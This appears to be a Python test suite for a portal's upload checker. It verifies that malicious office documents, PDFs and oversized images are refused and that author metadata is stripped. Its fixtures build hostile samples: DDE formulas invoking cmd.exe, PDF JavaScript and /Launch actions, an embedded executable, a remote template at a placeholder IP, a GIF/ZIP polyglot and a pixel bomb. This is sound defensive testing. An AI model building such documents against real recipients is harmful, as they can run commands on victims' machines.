"""Issue #19 items 7 and 15, issue #16 GIF: attachments that run something when opened are
refused naming the file; what is kept loses the metadata naming its author; a picture's pixel
count is checked from its header before anything is decoded; GIF is an image like the others.

Every hostile file is generated here (zipfile, Pillow, hand-written PDF objects)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile
from pypdf import PdfReader
from sqlalchemy import select

from portal.extensions import db
from portal.intake.attachments import AttachmentRefused, Limits, check_file, check_files
from portal.intake.service import IncomingFile
from tests.fixtures.intake import gen_docx, gen_xlsx

# -- generators -----------------------------------------------------------------------------


def make_pdf(
    catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), info: bytes = b""
) -> bytes:
    """A one-page PDF with a correct xref; objects 5.. are ``extra_objects``, object 4 the Info."""
    content = b"BT /F1 12 Tf 72 712 Td (hello) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        info or b"<< /Producer (test) >>",
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R /Info 5 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, xref)
    )
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS_NS = b"http://schemas.openxmlformats.org/package/2006/relationships"
CORE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    b'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    b"<dc:title>\xe6\x84\x8f\xe8\xa7\x81</dc:title><dc:creator>Li Ming</dc:creator>"
    b"<cp:lastModifiedBy>Wang Fang</cp:lastModifiedBy></cp:coreProperties>"
)
APP = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
    b'properties"><Application>Microsoft Office Word</Application>'
    b"<Company>Dongguan Widget Factory</Company><Manager>Boss Zhang</Manager></Properties>"
)


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_with(extra: dict[str, bytes]) -> bytes:
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": b'<Relationships xmlns="' + RELS_NS + b'"/>',
        "word/document.xml": "<w:document>整改意见</w:document>".encode(),
    }
    return zip_of({**members, **extra})


def xlsx_with(members: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(gen_xlsx())) as archive:
        base = {info.filename: archive.read(info) for info in archive.infolist()}
    return zip_of({**base, **members})


def rels(*relationships: bytes) -> bytes:
    return (
        b'<Relationships xmlns="' + RELS_NS + b'">' + b"".join(relationships) + b"</Relationships>"
    )


def refusal(name: str, data: bytes, limits: Limits | None = None) -> str:
    with pytest.raises(AttachmentRefused) as caught:
        check_file(IncomingFile(name, data), limits=limits)
    message = caught.value.message
    assert f"“{name}”" in message, "every refusal names the file"
    return message


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


# -- item 7: active content ---------------------------------------------------------------

DDE_SHEET = b"<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
TEMPLATE_REL = (
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
)
LINK_REL = (
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
)


@pytest.mark.parametrize(
    ("name", "make", "words"),
    [
        (
            "宏表.xlsx",
            lambda: xlsx_with({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
            "宏",
        ),
        (
            "宏表2.xlsx",  # a macro sheet living elsewhere is still named by its content type
            lambda: xlsx_with(
                {
                    "[Content_Types].xml": CONTENT_TYPES.replace(
                        b"</Types>",
                        b'<Override PartName="/xl/m/a.xml" ContentType="application/'
                        b'vnd.ms-excel.macrosheet+xml"/></Types>',
                    ),
                    "xl/m/a.xml": b"<xm:macrosheet/>",
                }
            ),
            "宏",
        ),
        ("vba.xlsx", lambda: xlsx_with({"xl/vbaProject.bin": OLE}), "宏"),
        ("ole.docx", lambda: docx_with({"word/embeddings/oleObject1.bin": OLE}), "OLE对象"),
        (
            "template.docx",
            lambda: docx_with({"word/_rels/settings.xml.rels": rels(TEMPLATE_REL)}),
            "外部模板",
        ),
        (
            "dde.docx",
            lambda: docx_with({
                "word/document.xml": b'<w:document><w:r><w:instrText xml:space="preserve"> DD'
                b"</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
                b"</w:instrText></w:r></w:document>"
            }),
            "DDE",
        ),
        (
            "dde.xlsx",
            lambda: xlsx_with({"xl/worksheets/sheet1.xml": DDE_SHEET}),
            "DDE",
        ),
        (
            "js.pdf",
            lambda: make_pdf(b"/OpenAction 6 0 R", (b"<< /S /JavaScript /JS (app.alert(1)) >>",)),
            "JavaScript",
        ),
        (
            "hexname.pdf",  # /J#61vaScript is /JavaScript and /J#53 is /JS to a reader
            lambda: make_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "JavaScript",
        ),
        (
            "launch.pdf",
            lambda: make_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
            "启动外部程序",
        ),
        (
            "embedded.pdf",
            lambda: make_pdf(
                b"/Names << /EmbeddedFiles 6 0 R >>",
                (b"<< /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>] >>",
                 b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
            ),
            "内嵌了其他文件",
        ),
        (
            "aa.pdf",
            lambda: make_pdf(b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>"),
            "自动执行",
        ),
    ],
)  # fmt: skip
def test_active_content_is_refused_naming_the_file(name: str, make: Any, words: str) -> None:
    message = refusal(name, make())
    assert words in message
    assert "另存为PDF" in message, "the citizen is told what to do instead"


def test_a_page_to_open_at_a_web_link_and_a_local_template_are_not_active() -> None:
    pdf = make_pdf(b"/OpenAction [3 0 R /Fit]")
    assert check_file(IncomingFile("fit.pdf", pdf)).kind == "pdf"
    docx = docx_with({"word/_rels/document.xml.rels": rels(LINK_REL)})
    assert check_file(IncomingFile("link.docx", docx)).kind == "docx"
    # Word records the template a document came from as an external path on the author's
    # disk: everyday in office documents, and nothing is fetched from elsewhere.
    local = TEMPLATE_REL.replace(
        b"http://198.51.100.7/t.dotm", b"file:///C:/Users/li/AppData/Roaming/Templates/gw.dotm"
    )
    docx = docx_with({"word/_rels/settings.xml.rels": rels(local)})
    assert check_file(IncomingFile("template.docx", docx)).kind == "docx"
    unc = TEMPLATE_REL.replace(b"http://198.51.100.7/t.dotm", b"\\\\198.51.100.7\\t\\t.dotm")
    docx = docx_with({"word/_rels/settings.xml.rels": rels(unc)})
    assert "外部模板" in refusal("unc.docx", docx), "a share on another machine is remote"


def test_every_intake_path_uses_the_same_check(app: Flask, notice: Any) -> None:
    """The web form, mail, staff intake and quarantine release all call check_files."""
    hostile = IncomingFile("宏表.xlsx", xlsx_with({"xl/macrosheets/sheet1.xml": b"<x/>"}))
    with pytest.raises(AttachmentRefused) as caught:
        check_files([hostile, IncomingFile("ok.txt", b"fine")])
    assert "“宏表.xlsx”" in caught.value.message

    from portal.intake.service import Incoming, SubmissionRejected, record_submission

    with pytest.raises(SubmissionRejected) as rejected:
        record_submission(
            Incoming(
                channel="web", body="附件是整改台账，请查收。", notice=notice, attachments=[hostile]
            )
        )
    assert "宏表.xlsx" in str(rejected.value.errors)


def test_mail_never_stores_an_active_document(
    runner: Any, app: Flask, published_notice: str, tmp_path: Any
) -> None:
    """Mail takes the same check: the macro workbook is quarantined or kept aside, named; the
    harmless PDF is stored without its author."""
    import json

    from tests.test_mail_ingest import citizen_mail, one_line, run_ingest

    author_pdf = make_pdf(info=b"<< /Author (Li Ming) >>")
    raw = citizen_mail(
        "台账见附件。",
        attachments=(
            ("宏表.xlsx", xlsx_with({"xl/macrosheets/sheet1.xml": b"<x/>"}), "application/zip"),
            ("说明.pdf", author_pdf, "application/pdf"),
        ),
    )
    line = one_line(run_ingest(runner, raw, tmp_path))
    if line.startswith("quarantined"):
        assert "宏表.xlsx" in line
        return
    code = line.split(" ", 1)[1]
    shown = json.loads(runner.invoke(args=["submissions", "show", code, "--json"]).output)
    assert [a["filename"] for a in shown["attachments"]] == ["说明.pdf"]
    with app.app_context():
        from portal.intake.attachments import open_attachment
        from portal.intake.models import Submission

        submission = db.session.scalar(select(Submission).where(Submission.code == code))
        assert submission is not None
        assert b"Li Ming" not in open_attachment(submission.attachments[0]).read_bytes()


# -- item 7: metadata ---------------------------------------------------------------------


def test_docx_and_xlsx_lose_author_editor_and_company() -> None:
    docx = docx_with({"docProps/core.xml": CORE, "docProps/app.xml": APP})
    xlsx = xlsx_with({"docProps/core.xml": CORE, "docProps/app.xml": APP})
    for name, data in (("意见.docx", docx), ("台账.xlsx", xlsx)):
        assert b"Li Ming" in members_of(data)["docProps/core.xml"], "the fixture names its author"
        cleaned = members_of(check_file(IncomingFile(name, data)).data)
        for leaked in (b"Li Ming", b"Wang Fang", b"Widget Factory", b"Boss Zhang"):
            assert all(leaked not in content for content in cleaned.values()), (name, leaked)
        assert "意见".encode() in cleaned["docProps/core.xml"], "the title is not personal: kept"
        assert b"Microsoft Office Word" in cleaned["docProps/app.xml"]
    word = members_of(check_file(IncomingFile("意见.docx", docx)).data)["word/document.xml"]
    assert "整改意见".encode() in word, "the text itself is untouched"


def test_pdf_loses_info_and_xmp_but_keeps_its_page() -> None:
    xmp = b"<x:xmpmeta><dc:creator>Li Ming</dc:creator></x:xmpmeta>"
    pdf = make_pdf(
        b"/Metadata 6 0 R",
        (
            b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n" % len(xmp)
            + xmp
            + b"\nendstream",
        ),
        info=b"<< /Author (Li Ming) /Creator (WPS) /Title (Complaint) >>",
    )
    before = PdfReader(io.BytesIO(pdf)).metadata
    assert before is not None and before.author == "Li Ming", "the fixture names its author"
    cleaned = check_file(IncomingFile("投诉.pdf", pdf)).data
    assert b"Li Ming" not in cleaned
    reader = PdfReader(io.BytesIO(cleaned))
    assert not reader.metadata, "no Info dictionary at all"
    assert "/Metadata" not in reader.root_object
    contents = reader.pages[0].get_contents()
    assert contents is not None and b"(hello) Tj" in contents.get_data(), "the page is kept"


def test_a_pdf_only_a_password_opens_is_refused_with_advice() -> None:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.encrypt("secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert "打开密码" in refusal("locked.pdf", out.getvalue())


# -- item 15: pixel bombs -----------------------------------------------------------------


def palette_png(width: int, height: int) -> bytes:
    """A valid all-black palette PNG: a few hundred KB whatever the pixel count."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 3, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"PLTE", b"\x00\x00\x00")
        + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )


def test_a_59_megapixel_png_is_refused_from_its_header_without_decoding(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bomb = palette_png(10_000, 5_900)
    assert len(bomb) < 300_000, "small on the wire"
    decoded: list[str] = []

    def no_decoding(self: ImageFile.ImageFile) -> Any:
        decoded.append(self.format or "?")
        raise AssertionError("pixels decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    message = refusal("现场.png", bomb)
    assert "尺寸过大" in message and "24" in message
    assert decoded == []


def test_the_pixel_cap_is_a_setting(app: Flask) -> None:
    picture = palette_png(400, 300)
    small = Limits(max_image_pixels=100_000)
    assert "尺寸过大" in refusal("p.png", picture, small)
    assert check_file(IncomingFile("p.png", picture), limits=Limits(max_image_pixels=120_000))
    app.config["UPLOAD_MAX_IMAGE_PIXELS"] = 1000
    assert Limits.from_config(app.config).max_image_pixels == 1000


def test_an_animation_counts_all_its_frames() -> None:
    frames = [Image.new("RGB", (100, 100), (i * 40, 0, 0)) for i in range(5)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100)
    assert "尺寸过大" in refusal("动图.gif", out.getvalue(), Limits(max_image_pixels=40_000))
    assert check_file(
        IncomingFile("动图.gif", out.getvalue()), limits=Limits(max_image_pixels=50_000)
    )


# -- issue #16: GIF -----------------------------------------------------------------------


def sub_blocks(data: bytes) -> bytes:
    return (
        b"".join(
            bytes([len(data[i : i + 255])]) + data[i : i + 255] for i in range(0, len(data), 255)
        )
        + b"\x00"
    )


GIF_COMMENT = b"\x21\xfe" + sub_blocks(b"owner Li Ming 13812341234")
GIF_XMP = b"\x21\xff\x0bXMP DataXMP" + sub_blocks(b"<x:xmpmeta>GPSLatitude 22N</x:xmpmeta>")


def gif_with_metadata(frames: int) -> bytes:
    images = [Image.new("RGB", (30, 20), (0, i * 60, 200)) for i in range(frames)]
    out = io.BytesIO()
    durations = [120, 240, 360][:frames]
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=durations)
    data = out.getvalue()
    assert data.endswith(b"\x3b")
    return data[:-1] + GIF_COMMENT + GIF_XMP + b"\x3b"


@pytest.mark.parametrize("frames", [1, 3])
def test_gif_is_accepted_reencoded_without_comments_or_xmp(frames: int) -> None:
    original = gif_with_metadata(frames)
    assert b"13812341234" in original and b"GPSLatitude" in original
    with Image.open(io.BytesIO(original)) as before:
        assert getattr(before, "n_frames", 1) == frames, "the fixture is a readable GIF"
    checked = check_file(IncomingFile("现场", original, content_type="image/gif"))
    assert (checked.filename, checked.content_type, checked.kind) == (
        "现场.gif",
        "image/gif",
        "gif",
    )
    assert b"13812341234" not in checked.data and b"GPSLatitude" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as after:
        assert getattr(after, "n_frames", 1) == frames, "an animation keeps every frame"
        durations = []
        for index in range(frames):
            after.seek(index)
            durations.append(after.info.get("duration"))
        if frames > 1:
            assert durations == [120, 240, 360]
        pixel = after.convert("RGB").getpixel((5, 5))
        assert isinstance(pixel, tuple) and pixel[2] > 150


def test_a_gif_hiding_a_zip_is_refused() -> None:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    assert "藏有其他文件" in refusal("a.gif", out.getvalue() + zip_of({"a.exe": b"MZ"}))


def test_a_gif_named_jpg_is_refused_as_not_jpeg() -> None:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    assert "检测为GIF图片" in refusal("a.jpg", out.getvalue())


def test_the_refusal_lists_gif_among_the_allowed_types() -> None:
    assert "GIF" in refusal("a.bin", bytes(range(256)) * 8)


def test_docx_fixture_of_the_suite_still_passes() -> None:
    assert check_file(IncomingFile("a.docx", gen_docx())).kind == "docx"


# -- outside input: nothing a sender builds crashes the document checks -----------------------


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_damaged_pdf_is_kept_or_refused_never_a_crash(data: st.DataObject) -> None:
    pdf = bytearray(make_pdf(b"/OpenAction [3 0 R /Fit]"))
    for _ in range(data.draw(st.integers(1, 8))):
        pdf[data.draw(st.integers(0, len(pdf) - 1))] = data.draw(st.integers(0, 255))
    try:
        checked = check_file(IncomingFile("a.pdf", bytes(pdf)))
    except AttachmentRefused as exc:
        assert "“a.pdf”" in exc.message
    else:
        assert checked.kind == "pdf" and PdfReader(io.BytesIO(checked.data)).pages


@settings(max_examples=100, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(
            ["word/document.xml", "word/_rels/settings.xml.rels", "docProps/core.xml",
             "docProps/app.xml", "word/embeddings/x.bin", "word/media/a.png", "[Content_Types].xml"]
        ),
        st.binary(max_size=200) | st.sampled_from([CORE, APP, rels(TEMPLATE_REL), rels(LINK_REL)]),
    )
)  # fmt: skip
def test_any_docx_members_are_kept_or_refused_never_a_crash(members: dict[str, bytes]) -> None:
    try:
        checked = check_file(IncomingFile("a.docx", docx_with(members)))
    except AttachmentRefused as exc:
        assert "“a.docx”" in exc.message
    else:
        assert checked.kind == "docx"
        stored = members_of(checked.data)
        assert "word/embeddings/x.bin" not in stored
        assert all(b"Li Ming" not in v for k, v in stored.items() if k.startswith("docProps/"))


def test_a_signed_pdf_is_kept_byte_for_byte_so_its_signature_still_verifies() -> None:
    """An e-invoice's signature covers the bytes: rewriting would void it. Active content in
    a revision the latest cross-reference no longer points to is still refused."""
    signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 10 20 30] /Contents <00> >>"
    field = b"<< /FT /Sig /T (sig) /V 7 0 R >>"
    signed = make_pdf(b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >>", (field, signature))
    assert check_file(IncomingFile("发票.pdf", signed)).data == signed
    hidden = signed + b"99 0 obj\n<< /S /JavaScript /J#53 (app.alert(1)) >>\nendobj\n"
    assert "JavaScript" in refusal("发票2.pdf", hidden)


def test_a_signed_docx_is_kept_byte_for_byte() -> None:
    signed = docx_with({"docProps/core.xml": CORE, "_xmlsignatures/sig1.xml": b"<Signature/>"})
    assert check_file(IncomingFile("签章.docx", signed)).data == signed
